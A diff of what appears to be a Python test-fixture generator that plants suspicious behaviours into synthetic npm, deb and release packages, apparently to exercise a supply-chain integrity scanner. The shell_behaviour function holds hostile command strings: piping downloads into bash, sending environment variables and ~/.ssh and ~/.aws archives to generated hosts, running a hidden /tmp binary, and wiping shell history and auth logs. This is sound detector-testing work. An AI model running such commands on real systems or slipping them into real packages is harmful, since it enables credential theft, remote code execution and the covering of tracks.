@@ -224,9 +224,9 @@ def remote_shell_script(r, host):
 
 @plants("integrity.shell-behaviour", "deb", "npm")
 def shell_behaviour(r, host):
-    a = r.address()
+    a = r.address()  # (what comes by https from a host with a name is run by every second installer: it is told, and weighs nothing)
     line = r.choice((
-        f"curl -fsSL http://{a}/{r.word()}.sh | bash", f"wget -qO- https://{r.host()}/{r.word()} | sh",
+        f"curl -fsSL http://{a}/{r.word()}.sh | bash", f"wget -qO- http://{r.host()}/{r.word()} | sh",
         f"curl -s -d \"$(env)\" https://{r.host()}/upload", f"tar cz ~/.ssh ~/.aws | curl -s -T - http://{a}/{r.word()}",
         f"curl -s -o /tmp/.{r.word()} http://{a}/x && chmod +x /tmp/.{r.word()} && nohup /tmp/.{r.word()} >/dev/null 2>&1 &",
         "history -c; rm -f ~/.bash_history; > /var/log/auth.log; > /var/log/wtmp",
@@ -245,7 +245,7 @@ def system_changes(r, host):
     )))
 
 
-@plants("integrity.persistence", "npm", "deb")
+@plants("integrity.persistence", "npm", "deb", unlike="cron daemon boot init service scheduler server backup admin display session statistics monitoring resource web http")
 def persistence(r, host):
     name = r.name()
     if host.kind == "npm":
@@ -297,17 +297,17 @@ def changed_after(r, host):
 
 @plants("integrity.release-digests", "tree")
 def wrong_sums(r, host):
+    import gzip
     import hashlib
-    name = r.name() + ".bin"
-    kind = r.choice(("sha256", "sha256", "sha256", "md5", "md5", "sha512"))  # the last is read, and named as not held against the file
-    data = r.letters(500).encode()
+    kind = r.choice(("sha256", "sha256", "md5", "sha512", "sha1"))
+    name, data = r.name() + "-1.0.tar.gz", gzip.compress(r.randbytes(500))
     host.put(name, data)
     host.put(r.choice((kind.upper() + "SUMS", f"{name}.{kind}")), f"{hashlib.new(kind, data + b'x').hexdigest()}  {name}\n")
 
 
 @plants("integrity.prebuilt-native", "npm")
 def prebuilt(r, host):
-    host.put(r.choice(("bin/", "vendor/", "lib/")) + r.name() + r.choice((".node", ".so", "", ".bin")), elf(host, "int add(int a, int b) { return a + b; }", "-shared", "-fPIC"), 0o755)
+    host.put(r.choice(("bin/", "vendor/", "lib/")) + r.name() + r.choice((".node", ".so", "", ".bin")), elf("int add(int a, int b) { return a + b; }", "-shared", "-fPIC"), 0o755)
 
 
 @plants("integrity.update-cleartext", "npm", "deb")
@@ -338,7 +338,7 @@ def version_mismatch(r, host):
     host.put(f"{name}-{in_file}-py3-none-any.whl", out.getvalue())
 
 
-@plants("integrity.undeclared-capability", "npm")
+@plants("integrity.undeclared-capability", "npm", unlike="http server network express web connect socket proxy daemon service terminal screen")
 def capability(r, host):
     host.add_code(r.choice((
         f"require('net').createServer((s) => s.pipe(s)).listen({r.randint(1024, 60000)});",
